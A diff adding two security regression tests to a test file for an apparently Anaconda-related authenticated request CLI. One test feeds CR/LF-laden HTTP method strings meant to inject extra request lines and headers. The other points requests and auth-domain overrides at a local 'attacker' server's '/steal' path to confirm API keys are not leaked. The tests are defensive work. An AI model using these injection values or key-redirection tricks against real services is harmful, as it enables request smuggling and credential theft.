@@ -93,3 +93,40 @@ def test_usage_errors(env, emulator):
     assert r.returncode == 2 and "Name: value" in r.stderr
     r = request(env, emulator, "-d", "@/nonexistent/file", "/x")
     assert r.returncode == 2 and "cannot read /nonexistent/file" in r.stderr
+
+
+def test_method_with_crlf_refused(env, emulator):
+    """Finding 12: -X with CR/LF would write its own request line and headers
+    next to the Authorization header; a method is an RFC 9110 token."""
+    store(env, emulator.domain, emulator.mint_key())
+    for method in ("GET /api/account HTTP/1.1\r\nX-Injected: y\r\n\r\nGET",
+                   "GET\r\nX: y", "GET\n", "GE T"):
+        r = request(env, emulator, "-X", method, "/api/account")
+        assert r.returncode == 2, r
+        lines = r.stderr.strip().splitlines()
+        assert len(lines) == 1 and "HTTP method" in lines[0], r
+    assert not emulator.requests()
+    r = request(env, emulator, "-X", "GET", "/api/account")
+    assert r.returncode == 0, r
+
+
+def test_env_key_only_to_the_domain(env, emulator, tmp_path):
+    """An API key from the environment goes only to the domain's host, like a
+    stored one: not to another host, not to the auth domain."""
+    import os
+
+    from attacker_server import AttackerServer
+    from emulator import certs
+
+    key = emulator.mint_key()
+    cert = (os.path.join(emulator.state_dir, certs.CERT_FILE),
+            os.path.join(emulator.state_dir, certs.KEY_FILE))
+    with AttackerServer(*cert) as attacker:
+        for extra in ({}, {"ANACONDA_AUTH_AUTH_DOMAIN_OVERRIDE": attacker.host},
+                      {"ANACONDA_CLOUD_AUTH_DOMAIN": attacker.host}):
+            for var in ("ANACONDA_AUTH_API_KEY", "ANACONDA_CLOUD_API_KEY"):
+                r = request(env, emulator, attacker.url + "/steal", **{var: key}, **extra)
+                assert r.returncode == 5, r
+        assert attacker.requests() and not attacker.saw(key), attacker.requests()
+    r = request(env, emulator, "/api/account", ANACONDA_AUTH_API_KEY=key)
+    assert r.returncode == 0, r
